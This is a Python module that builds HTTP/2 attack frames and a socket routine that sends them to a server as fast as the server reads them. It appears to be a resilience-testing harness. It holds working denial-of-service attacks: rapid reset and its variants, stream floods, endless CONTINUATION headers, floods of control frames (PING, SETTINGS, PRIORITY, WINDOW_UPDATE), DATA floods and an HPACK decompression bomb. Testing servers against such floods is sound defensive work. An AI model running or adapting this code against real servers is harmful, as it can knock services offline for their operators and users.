"""Frames of hostile clients of HTTP/2, and a connection that writes them as fast as they are taken."""

import select
import socket
import struct
import time

FRAMES = 100_000
# Sent in pieces of so many bytes.
PIECE_BYTES = 256 << 10

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
LAST = b"the last"
WAIT = b"waiting."


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def text(value):
    assert len(value) < 127
    return bytes([len(value)]) + value.encode()


# :method GET (or POST), :scheme http, :path /, and :authority without the dynamic table.
GET = b"\x82\x86\x84\x01" + text("a.example")
POST = b"\x83\x86\x84\x01" + text("a.example")
# A path whose answer takes its time.
LONG = b"\x82\x86\x04" + text("/x?delay=5000") + b"\x01" + text("a.example")
# A field of 4,000 bytes into the dynamic table, and then its index again and again.
BOMB = GET + b"\x40" + text("x") + b"\x7f" + bytes([0x80 | ((3900 - 127) & 127), (3900 - 127) >> 7]) + b"v" * 3900
AGAIN = GET + b"\xbe" * 16_000


def ids():
    return range(1, 2**31, 2)


def rapid_reset():
    """A request, and its reset at once."""
    for stream in ids():
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, GET)
        yield frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def late_reset():
    """Requests that have begun at the server when they are reset, 90 at a time."""
    for first in range(1, 2**31, 180):
        streams = range(first, first + 180, 2)
        for stream in streams:
            yield frame(HEADERS, END_STREAM | END_HEADERS, stream, LONG)
        # Its answer is waited for.
        yield frame(PING, 0, 0, WAIT)
        for stream in streams:
            yield frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def made_to_reset():
    """A request, and a window update of nothing, to which the server answers with a reset."""
    for stream in ids():
        yield frame(HEADERS, END_HEADERS, stream, POST)
        yield frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))


def many_streams():
    """Requests that do not wait for their answers, nor take them."""
    for stream in ids():
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, GET)


def repeated(first, then):
    def frames():
        yield from first
        while True:
            yield then

    frames.__doc__ = None
    return frames


def endless_head():
    """One head, in frames of fields without end."""
    yield frame(HEADERS, 0, 1, GET)
    field = b"\x00" + text("x-field") + text("v" * 100)
    while True:
        yield frame(CONTINUATION, 0, 1, field)


def bombs():
    """Heads of 16 kB that say 60 MB."""
    for stream in ids():
        block = BOMB if stream == 1 else AGAIN
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block)


OPEN = [frame(HEADERS, END_HEADERS, 1, POST)]
# Each attack, and how many frames of it are sent when that is not 100,000: large ones.
ATTACKS = {
    "rapid-reset": (rapid_reset, FRAMES),
    "late-reset": (late_reset, 10_000),
    "made-to-reset": (made_to_reset, FRAMES),
    "many-streams": (many_streams, FRAMES),
    "empty-continuation": (repeated([frame(HEADERS, 0, 1, GET)], frame(CONTINUATION, 0, 1)), FRAMES),
    "endless-head": (endless_head, FRAMES),
    "ping": (repeated([], frame(PING, 0, 0, b"flooding")), FRAMES),
    "settings": (repeated([], frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535))), FRAMES),
    "priority": (repeated([], frame(PRIORITY, 0, 3, struct.pack(">IB", 0, 10))), FRAMES),
    "window-update": (repeated([], frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))), FRAMES),
    "stream-window-update": (repeated(OPEN, frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))), FRAMES),
    "zero-increment": (repeated([], frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0))), FRAMES),
    "empty-data": (repeated(OPEN, frame(DATA, 0, 1)), FRAMES),
    "one-byte-data": (repeated(OPEN, frame(DATA, 0, 1, b"x")), 60_000),
    "unknown": (repeated([], frame(0xFA, 0, 0, b"whatever")), FRAMES),
    "hpack-bomb": (bombs, 2_000),
}


class Frames:
    """The first frames of an attack, as pieces to be sent; made once."""

    def __init__(self, attack, count):
        self.pieces, self.count = [], count
        # How many frames have ended with each piece.
        self.ends = []
        piece, made = bytearray(PREFACE + frame(SETTINGS, 0, 0)), 0
        for one in attack():
            piece += one
            made += 1
            if len(piece) >= PIECE_BYTES or made == count or one.endswith(WAIT):
                self.pieces.append(bytes(piece))
                self.ends.append(made)
                piece = bytearray()
            if made == count:
                break
        # Its answer says that all before it was read. Within a head nothing may stand between.
        self.pieces.append(frame(PING, 0, 0, LAST))
        self.ends.append(made)


def connection(address, port, frames, most, deadline):
    """Sends up to `most` frames on one connection; returns how many went out, and whether it was
    cut."""
    began, at, sent = 0, 0, 0
    tail, waits = b"", False
    with socket.create_connection((address, port), 5) as peer:
        peer.setblocking(False)
        while time.monotonic() < deadline:
            # The last piece is no frame of the attack.
            is_sending = not waits and (began < most or at == len(frames.pieces) - 1)
            wants = select.POLLIN | (select.POLLOUT if is_sending and at < len(frames.pieces) else 0)
            poll = select.poll()
            poll.register(peer, wants)
            ready = poll.poll(1000)
            if not ready and not wants & select.POLLOUT:
                # It holds the frames and says nothing: they were read, or its windows are closed.
                return min(began, most), False
            for _, events in ready:
                try:
                    if events & select.POLLOUT:
                        sent += peer.send(memoryview(frames.pieces[at])[sent:])
                        if sent == len(frames.pieces[at]):
                            waits = frames.pieces[at].endswith(WAIT)
                            began, at, sent = frames.ends[at], at + 1, 0
                    if events & (select.POLLIN | select.POLLHUP | select.POLLERR):
                        piece = peer.recv(1 << 18)
                        if not piece:
                            return began + part(frames, at, sent), True
                        tail = (tail + piece)[-(1 << 18) - 32 :]
                        if frame(PING, 1, 0, LAST) in tail:
                            return began, False
                        if frame(PING, 1, 0, WAIT) in tail:
                            tail, waits = b"", False
                except BlockingIOError:
                    pass
                except OSError:
                    return began + part(frames, at, sent), True
    return began + part(frames, at, sent), False


def part(frames, at, sent):
    """How many frames of a piece were sent."""
    if at >= len(frames.pieces) or not sent:
        return 0
    before = frames.ends[at - 1] if at else 0
    return int((frames.ends[at] - before) * sent / len(frames.pieces[at]))
